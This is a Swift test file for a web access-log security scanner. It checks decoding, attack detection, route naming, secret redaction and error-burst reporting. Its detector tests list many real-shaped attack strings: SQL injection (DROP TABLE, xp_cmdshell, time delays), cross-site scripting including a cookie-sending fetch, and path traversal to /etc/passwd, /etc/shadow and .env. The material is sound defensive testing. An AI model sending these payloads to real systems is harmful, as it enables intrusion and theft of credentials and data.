import Testing
@testable import SecIssueKit
@testable import SecIssueTelemetry

/// What the reader finds in a raw target: the quick scan first, then the detectors.
private func kinds(_ target: String) -> AttackKinds {
    var scanner = AttackScanner()
    return Array(target.utf8).withUnsafeBufferPointer { AttackScanner.mayHoldAttack($0) ? scanner.scan($0) : [] }
}

private func route(_ target: String) -> String {
    var routes = RequestRoute()
    return Array(target.utf8).withUnsafeBufferPointer { routes.name($0) }
}

private func sample(_ method: String, _ target: String, _ status: Int) -> String {
    RequestSample.of(method: Array(method.utf8)[...], target: Array(target.utf8)[...], status: status)
}

private func decoded(_ target: String) -> String {
    var decoder = RequestDecoder()
    Array(target.utf8).withUnsafeBufferPointer { decoder.decode($0) }
    return String(decoding: decoder.text, as: UTF8.self)
}

/// Benign searches that share words or characters with attacks, as real visitors type them.
private let benignSearches = [
    "union station", "union square cafe", "trade union history", "select committee", "selection of teas", "O'Brien",
    "D'Angelo pizza", "Joe's diner", "rock 'n' roll", "order by date", "sort by price", "1=1 math", "2+2=4", "x or y",
    "black and white", "null hypothesis", "drop shipping", "insert coin", "delete key", "update drivers", "sleep mask",
    "benchmark results", "<3 love", "i <3 nyc", "a < b", "\"quoted phrase\"", "C:\\Program Files", "script writing",
    "javascript tutorial", "javascript: the good parts", "alert clock", "iframe embed", "svg icons", "img alt text", "50% off",
    "AT&T", "Tom & Jerry", "C++", "C#", "--verbose flag", "#hashtag", "café", "日本語の本", "version 2.0/3.0", "1/2 cup",
    "and/or", "ellipsis...", "where to buy", "having fun", "group by color", "char siu", "exec chair", "cast iron pan",
    "concat tool", "table lamp", "information about tables", "passwords manager", "etc.", "windows 11 laptop",
    "system32 error help", "home/office desk", "tea or coffee", "\"tea\" or \"coffee\"", "it's 5 o'clock", "don't stop",
    "what is 1+1", "x = y", "email me (later)", "size (large)", "confirm order", "on sale", "one=two",
    // Code and changelog text, as developers paste it into a documentation search.
    "console.log('start');", "const fs = require('node:fs');", "303466 == 273475", "Simplify \"factory-reset\" procedure.",
    "require('posix') -----------------", "Add \"--no-keyring\".", "fun(); call call-sc-tl", "Handle '--prefix' argument",
    "if (a < b) { return; }", "x; if you can", "hello; select a size", "how to edit /etc/hosts", "where is /etc/passwd kept",
]

/// Each benign value as a form sends it (`+` for spaces), percent-encoded, and typed into the address bar.
private let benignTargets: [String] = benignSearches.flatMap { value -> [String] in
    let form = value.addingFormEncoding()
    let typed = value.split(separator: " ", omittingEmptySubsequences: false).joined(separator: "%20")
    return ["/search?q=" + form, "/search?q=" + typed]
} + [
    "/", "/index.html", "/product?id=42", "/product?id=A-100&ref=email+campaign", "/download?file=docs/manual.pdf",
    "/download?file=my%20file%20(1).pdf", "/download?file=../img/logo.png", "/p?season=2024-2025", "/p?zip=90210-1234",
    "/blog/2024/spring-sale.html", "/static/app.3f2a9c.js", "/api/v1/users/17/orders?page=2&limit=20",
    "/files/archive.tar.gz", "/a?from=select+your+size",
    "/account?token=abc123", "/search?q=it%E2%80%99s%20fine", "/s?q=%F0%9F%98%80%20party",
]

extension String {
    /// Form encoding as a browser does it: letters, digits and `-._*` kept, space as `+`, the rest `%HH`.
    fileprivate func addingFormEncoding() -> String {
        var out = ""
        for byte in utf8 {
            switch byte {
            case 48...57, 65...90, 97...122, 45, 46, 95, 42: out.append(Character(UnicodeScalar(byte)))
            case 32: out.append("+")
            default: out += "%" + String(byte, radix: 16, uppercase: true).leftPadded()
            }
        }
        return out
    }

    fileprivate func leftPadded() -> String { count == 1 ? "0" + self : self }

}

@Suite("request decoding")
struct RequestDecodingTests {
    @Test("percent escapes up to three times, + (even an encoded one) as space, a % that starts no escape dropped as ASP does", arguments: [
        ("/a%20b+c", "/a b c"), ("%253Cscript%253E", "<script>"), ("%25253C", "<"), ("%2525253C", "%3c"), ("%zz%4", "zz4"),
        ("%S%E%L%E%C%T", "select"), ("100%", "100%"),
        ("50%25+off", "50% off"), ("c%2B%2B", "c "), ("%u003c", "<"),
    ])
    func percent(raw: String, expected: String) {
        #expect(decoded(raw) == expected)
    }

    @Test("case, character references, backslash escapes, over-long and full-width forms", arguments: [
        ("&lt;ScRiPt&GT;", "<script>"), ("&#60;&#x3C;&#0000060&#X3c;", "<<<<"), ("&amp;lt;", "&lt;"), ("&nope;", "&nope;"),
        ("\\u003cb\\x3e", "<b>"), ("..%c0%af..%C0%AF", "../../"), ("%ef%bc%8e%ef%bc%8e%ef%bc%8f", "../"), ("%e0%80%af", "/"),
    ])
    func references(raw: String, expected: String) {
        #expect(decoded(raw) == expected)
    }

    @Test("SQL comments become a space, MySQL's versioned ones keep their content, white space collapses", arguments: [
        ("1/**/union/**/select", "1 union select"), ("/*!50000UNION*/%0a%09SELECT", " union select"),
        ("a%20%20%09%0d%0ab", "a b"), ("/files/*.txt", "/files/*.txt"),
    ])
    func comments(raw: String, expected: String) {
        #expect(decoded(raw) == expected)
    }
}

@Suite("attack detectors")
struct AttackDetectorTests {
    @Test("SQL injection as sqlmap and people send it", arguments: [
        "/p?id=1%20AND%205432%3D5432", "/p?id=1%20AND%205432%3D5433", "/p?id=1%27%20AND%20%27abcd%27%3D%27abcd",
        "/p?id=1%27%20OR%20%271%27%3D%271", "/login?user=%22%20or%20%22%22%3D%22", "/p?id=1+UNION+ALL+SELECT+NULL,NULL,NULL--+-",
        "/p?id=-1/**/UNION/**/SELECT/**/1,2,3", "/p?id=1%09union%0Aselect%0D1,2", "/p?id=1)%20UNION%20(SELECT%201,2)",
        "/p?id=1%27--", "/p?user=admin%27%23", "/p?id=1%27;DROP%20TABLE%20users--", "/p?id=1;SELECT%20PG_SLEEP(5)--",
        "/p?id=1%20AND%20SLEEP(5)", "/p?id=1%20AND%20BENCHMARK(5000000,MD5(0x41))", "/p?id=1%27%20WAITFOR%20DELAY%20%270:0:5%27--",
        "/p?id=1%20AND%20EXTRACTVALUE(1234,CONCAT(0x5c,0x71))", "/p?id=1%20AND%20UPDATEXML(1,CONCAT(0x7e,VERSION()),1)",
        "/p?id=1%20AND%201234%3DCONVERT(INT,(SELECT%20@@version))", "/p?id=1%20AND%201234%3DCAST((CHR(113)||CHR(120))%20AS%20NUMERIC)",
        "/p?id=1%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)>0", "/p?id=@@version",
        "/p?id=1;EXEC%20xp_cmdshell(%27dir%27)", "/p?id=1%27%20ORDER%20BY%203--", "/p?id=1%20ORDER%20BY%201--%20-",
        "/p?q=x%27%20union%20select%20password%20from%20users--", "/p?id=1).,(%22%27.)(,", "/p?id=1028-1027",
        "/p?id=1%25%27%20AND%201234%3D1234%20AND%20%27%25%27%3D%27", "/p?id=%2527%2520or%25201%253D1",
        "/p?id=1%20%26%26%201%3D1", "/p?id=(CASE%20WHEN%201234%3D1234%20THEN%201%20ELSE%200%20END)",
        "/p?id=1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1234%3D1234)%20THEN%201%20ELSE%200x28%20END))",
        "/p?id=1%2F*!50000UNION*%2F%2F*!50000SELECT*%2F1,2", "/p?id=1%20AND%201234%3DDBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
        "/p?id=CHAR(113)%2BCHAR(120)", "/p?id=1%27%20AND%20extractvalue(rand(),concat(0x3a,(select%20user())))--",
        "/p?id=1%20OR%20NOT%201234%3D1234", "/p?id=1%27UesnZG%3C%27%22%3E%29aIVEjC", "/p?id=1%20having%201%3D1",
        "/p?name=x%27%20OR%20true--", "/p?id=1%20AND%20username%3Dusername", "/p/1'%20or%20'1'='1",
        "/p?id=(8104%3D9824)*9824", "/p?id=IIF(2403%3D1916,2403,1/0)", "/p?id=1;IF(4048%3D4642)%20SELECT%204048%20ELSE%20DROP%20FUNCTION%20x--",
        "/p?id=1);CALL%20REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(5500),0),100000000),NULL)--", "/p?id=1%27)%20AS%20x%20WHERE%201234%3D1234",
        "/p?id=%u0031%u002B%u004F%u0052%u0044%u0045%u0052%u002B%u0042%u0059%u002B%u0031%u002D%u002D",
        "/p?id=1%27%20AND%20%27a%27%3D%27a%27;--", "/p?id=x%25%27;SELECT%20PG_SLEEP(1)--", "/p?id=1%27%200x31303235",
    ])
    func sqlInjection(target: String) {
        #expect(kinds(target).contains(.sqlInjection), "\(target) → \(decoded(target))")
    }

    @Test("cross-site scripting in its usual shapes and encodings", arguments: [
        "/s?q=<script>alert(1)</script>", "/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/s?q=%253Cscript%253Ealert(1)",
        "/s?q=<ScRiPt>alert(document.cookie)</sCrIpT>", "/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/s?q=<svg/onload=alert(1)>",
        "/s?q=<body%20onload=alert(1)>", "/s?q=<details%20open%20ontoggle=alert(1)>", "/s?q=%22%20onmouseover=%22alert(1)",
        "/s?q=%27%20autofocus%20onfocus=%27alert(1)", "/s?url=javascript:alert(1)", "/s?url=JaVaScRiPt:alert(document.cookie)",
        "/s?url=java%09script:alert(1)", "/s?q=<iframe%20src=x>", "/s?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
        "/s?q=%26%2360;script%26%2362;", "/s?q=%26%23x3c;img%20src=x%20onerror=alert(1)%26%23x3e;", "/s?q=%5Cu003cscript%5Cu003e",
        "/s?q=data:text/html,%3Cb%3E", "/s?q=%27;alert(1);//", "/s?q=%3C%27%22%3E", "/s?q=<a%20href=%22javascript:void(0)%22>",
        "/s?q=<IMG%20SRC=%22x%22%20ONERROR=%22alert(1)%22>", "/s?q=<scr<script>ipt>", "/s?q=%22-alert(1)-%22",
        "/s?q=x%22%3E%3Cb%20onclick%3Dprompt%601%60%3E", "/s?q=fetch(%27//x/?c=%27%2Bdocument.cookie)",
        "/s?q=%EF%BC%9Cscript%EF%BC%9E", "/blog/%3Csvg%20onload=alert(1)%3E",
    ])
    func crossSiteScripting(target: String) {
        #expect(kinds(target).contains(.crossSiteScripting), "\(target) → \(decoded(target))")
    }

    @Test("path traversal in the query and the path, in every encoding", arguments: [
        "/d?file=../../../../etc/passwd", "/d?file=..%2f..%2f..%2fetc%2fpasswd", "/d?file=%2e%2e%2f%2e%2e%2fetc%2fhosts",
        "/d?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/d?file=..%c0%af..%c0%afetc/passwd", "/d?file=....//....//etc/passwd",
        "/d?file=..%5c..%5c..%5cwindows%5cwin.ini", "/d?file=..;/..;/WEB-INF/web.xml", "/d?file=/etc/passwd", "/d?file=%2Fproc%2Fself%2Fenviron",
        "/d?file=C:%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts", "/d?file=c:/boot.ini", "/d?file=file:///etc/shadow",
        "/static/../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/images/..%2f..%2fetc%2fpasswd", "/..%5c..%5cwindows/win.ini",
        "/download?file=report.pdf%00.png", "/d?file=../../../../var/log/nginx/access.log", "/%2e%2e/%2e%2e/x",
        "/d?f=%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "/d?file=images/../../../../etc/group", "/etc/passwd",
        "/d?file=..\\..\\..\\windows\\win.ini", "/d?file=..././..././..././etc/passwd",
        "/d?file=../.env", "/d?file=..%2F.env", "/d?file=..%5c.git%5cconfig",
    ])
    func pathTraversal(target: String) {
        #expect(kinds(target).contains(.pathTraversal), "\(target) → \(decoded(target))")
    }

    @Test("benign look-alikes raise nothing")
    func benign() {
        for target in benignTargets {
            #expect(kinds(target).isEmpty, "\(target) → \(decoded(target))")
        }
    }

    @Test("most benign requests are cleared by the quick scan alone")
    func quickScan() {
        for target in ["/", "/index.html", "/product?id=42", "/api/v1/users/17/orders?page=2&limit=20", "/static/app.3f2a9c.js",
                       "/blog/2024/spring-sale.html", "/search?q=shoes&sort=price", "/images/logo.png?v=3"] {
            #expect(!Array(target.utf8).withUnsafeBufferPointer(AttackScanner.mayHoldAttack), "\(target)")
        }
    }

    @Test("one request can be SQL injection and cross-site scripting at once, one observation each")
    func twoRules() throws {
        let line = #"10.0.0.9 - - [27/Nov/2026:08:00:00 +0000] "GET /s?q=%27%20union%20select%20%27%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 5 "-" "-""#
        let result = try ingestAccessLog(line + "\n")
        #expect(result.observations.map(\.rule) == ["sqli", "xss"])
        #expect(result.observations.map(\.title) == ["SQL injection attempts on /s", "Cross-site scripting attempts on /s"])
        #expect(result.observations.map(\.cwe) == [89, 79])
        #expect(result.observations.map(\.severity) == [.high, .medium])
    }
}

@Suite("routes and samples")
struct RouteAndSampleTests {
    @Test("routes: the decoded path, identifiers as {id}, cut where a climb or injected markup starts", arguments: [
        ("/users/123/orders/550e8400-e29b-41d4-a716-446655440000?x=1", "/users/{id}/orders/{id}"),
        ("/blobs/0123456789abcdef0123/raw", "/blobs/{id}/raw"), ("/v2/items/abc123", "/v2/items/abc123"),
        ("/static/../../etc/passwd", "/static/"), ("/static/%2e%2e/%2e%2e/etc/passwd", "/static/"), ("/a/b/....//x", "/a/b/"),
        ("/..%5c..%5cwindows/win.ini", "/"), ("/blog/%3Cscript%3Ealert(1)%3C/script%3E", "/blog/"), ("/blog/..;/x", "/blog/"),
        ("", "/"), ("?a=1", "/"), ("/caf%C3%A9/menu", "/café/menu"), ("http://example.com/admin?x", "/admin"),
        ("HTTPS://example.com", "/"), ("/search#frag", "/search"), ("/a%2Fb", "/a/b"), ("/d/file.php%00.jpg", "/d/"),
    ])
    func routes(target: String, expected: String) {
        #expect(route(target) == expected)
    }

    @Test("a long route is cut at 200 bytes, not inside a character")
    func longRoute() {
        #expect(route("/" + String(repeating: "x", count: 300)).utf8.count == 200)
        let accented = route("/" + String(repeating: "é", count: 150))
        #expect(accented.utf8.count <= 200)
        #expect(!accented.contains("\u{FFFD}"))
    }

    @Test("samples redact secret parameters, JWTs and long tokens, and nothing else", arguments: [
        ("/login?user=bob&password=hunter2&next=/", "POST /login?user=bob&password=[redacted]&next=/ 302"),
        ("/cb?code=abc&state=xyz", "POST /cb?code=[redacted]&state=xyz 302"),
        ("/api?X-Api-Key=k1&q=1;sid=77", "POST /api?X-Api-Key=[redacted]&q=1;sid=[redacted] 302"),
        ("/r?client_secret=s&refresh_token=t&country_code=fr&sort_key=a", "POST /r?client_secret=[redacted]&refresh_token=[redacted]&country_code=fr&sort_key=a 302"),
        ("/reset/0123456789abcdef0123456789abcdef01234567", "POST /reset/[redacted] 302"),
        ("/auth/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefghijklmnopqrstuv?x=1", "POST /auth/[redacted]?x=1 302"),
        ("/dl?f=Zq8Xv2Lm9Rt4Wp7Ks3Nd6Hf1Jb5Gc0Ya", "POST /dl?f=[redacted] 302"),
        ("/blog/2024-Annual-Report-For-The-Financial-Year-Ending", "POST /blog/2024-Annual-Report-For-The-Financial-Year-Ending 302"),
        ("/s?q=%27%20or%201=1--", "POST /s?q=%27%20or%201=1-- 302"), ("/s?password=", "POST /s?password= 302"),
    ])
    func redaction(target: String, expected: String) {
        #expect(sample("POST", target, 302) == expected)
    }

    @Test("samples are at most 200 characters and show control bytes escaped")
    func sampleLimits() {
        let long = sample("GET", "/s?q=" + String(repeating: "ab ", count: 100), 200)
        #expect(long.count == 200)
        #expect(long.hasSuffix("…"))
        #expect(sample("GET", "/a\u{0}b\u{1b}", 400) == "GET /a\\x00b\\x1b 400")
    }
}

@Suite("bursts of error responses")
struct BurstTests {
    /// A combined line at `second` seconds after 2026-11-27T08:00:00Z.
    static func line(_ second: Int, _ target: String, _ status: Int, client: String = "10.0.0.1") -> String {
        let minute = second / 60, rest = second % 60
        let stamp = "27/Nov/2026:\(pad(8 + minute / 60)):\(pad(minute % 60)):\(pad(rest)) +0000"
        return "\(client) - - [\(stamp)] \"GET \(target) HTTP/1.1\" \(status) 0 \"-\" \"ua\""
    }

    static func pad(_ value: Int) -> String { value < 10 ? "0\(value)" : "\(value)" }

    static let windowStart: Int64 = 1_795_766_400

    @Test("a window reaching the threshold is one burst: its count, start, busiest client and threshold line")
    func burst() throws {
        var lines = (0..<30).map { Self.line($0, "/missing", 404, client: "10.0.0.5") }
        lines += (0..<25).map { Self.line(30 + $0 / 2, "/missing?try=\($0)", 404, client: "10.0.0.\($0 % 3 + 6)") }
        lines.insert(Self.line(5, "/ok", 200), at: 10)
        let result = try ingestAccessLog(lines.joined(separator: "\n"))
        let bursts = result.observations.filter { $0.rule.hasSuffix("burst") }
        #expect(bursts.count == 1)
        let burst = try #require(bursts.first)
        #expect(burst.rule == "http-4xx-burst")
        #expect(burst.resource == "/missing")
        #expect(burst.count == 55)
        #expect(burst.time == Self.windowStart)
        #expect(burst.source == "10.0.0.5")
        #expect(burst.line == 51)
        #expect(burst.severity == .low)
        #expect(burst.cwe == nil)
        #expect(burst.title == "Burst of 4xx responses on /missing")
        #expect(burst.sample == "55 × 404 in 60 s from 2026-11-27T08:00:00Z (top client 10.0.0.5)")
    }

    @Test("49 responses, or 70 split 35 and 35 by a window boundary, are no burst")
    func belowThreshold() throws {
        let under = (0..<49).map { Self.line($0, "/old-page.html", 404) }
        #expect(try ingestAccessLog(under.joined(separator: "\n")).observations.isEmpty)
        let split = (0..<35).map { Self.line(55 + $0 % 5, "/checkout-old", 404) } + (0..<35).map { Self.line(61 + $0 % 3, "/checkout-old", 404) }
        #expect(try ingestAccessLog(split.joined(separator: "\n")).observations.isEmpty)
    }

    @Test("two windows over threshold are two bursts; the first is reported when the second opens")
    func twoWindows() throws {
        let lines = (0..<50).map { Self.line($0, "/wp-login.php", 404) } + (0..<55).map { Self.line(60 + $0, "/wp-login.php?x=\($0)", 404) }
        let bursts = try ingestAccessLog(lines.joined(separator: "\n")).observations
        #expect(bursts.map(\.count) == [50, 55])
        #expect(bursts.map(\.time) == [Self.windowStart, Self.windowStart + 60])
        #expect(bursts.map(\.line) == [50, 100])
    }

    @Test("5xx bursts, mixed statuses, identifiers folded into one route")
    func serverErrorsAndMixes() throws {
        let errors = (0..<20).map { Self.line($0, "/api/orders/\(1000 + $0)", $0 % 2 == 0 ? 502 : 503) }
        let server = try #require(try ingestAccessLog(errors.joined(separator: "\n")).observations.first)
        #expect(server.rule == "http-5xx-burst")
        #expect(server.resource == "/api/orders/{id}")
        #expect(server.severity == .medium)
        #expect(server.title == "Burst of 5xx responses on /api/orders/{id}")
        #expect(server.sample == "20 × 5xx (10 × 502) in 60 s from 2026-11-27T08:00:00Z (top client 10.0.0.1)")
        let mixed = (0..<30).map { Self.line($0, "/account", 401) } + (0..<30).map { Self.line(30 + $0, "/account?token=t\($0)", 403) }
        let client = try #require(try ingestAccessLog(mixed.joined(separator: "\n")).observations.first)
        #expect(client.count == 60)
        #expect(client.sample.hasPrefix("60 × 4xx (30 × 401) in 60 s"))
    }

    @Test("a late line counts in its route's current window instead of reopening an old one")
    func disorder() throws {
        var lines = (0..<49).map { Self.line(60 + $0, "/late", 404) }
        lines.append(Self.line(59, "/late", 404))
        let burst = try #require(try ingestAccessLog(lines.joined(separator: "\n")).observations.first)
        #expect(burst.count == 50)
        #expect(burst.time == Self.windowStart + 60)
        #expect(burst.line == 50)
    }

    @Test("thresholds and the window come from the policy")
    func policy() throws {
        var policy = TelemetryPolicy()
        policy.windowSeconds = 10
        policy.burst4xx = 5
        let lines = (0..<5).map { Self.line($0, "/x", 403) } + (0..<4).map { Self.line(10 + $0, "/x", 403) }
        let bursts = try ingestAccessLog(lines.joined(separator: "\n"), policy: policy).observations
        #expect(bursts.map(\.count) == [5])
        #expect(bursts.first?.sample == "5 × 403 in 10 s from 2026-11-27T08:00:00Z (top client 10.0.0.1)")
    }

    @Test("past the route limit, the routes seen least recently are reported and dropped")
    func routeLimit() throws {
        var lines = (0..<50).map { _ in Self.line(0, "/first", 404) }
        lines += (0..<BurstTracker.routeLimit).map { Self.line(1, "/r\($0)x", 404) }
        let observations = try ingestAccessLog(lines.joined(separator: "\n")).observations
        let bursts = observations.filter { $0.rule.hasSuffix("-burst") }
        #expect(bursts.map(\.resource) == ["/first"])
        #expect(bursts.first?.count == 50)
        // The one client answered 404 on ten thousand routes: a sweep, reported per client.
        #expect(observations.contains { $0.rule == "forced-browsing" && $0.source == "10.0.0.1" })
    }
}
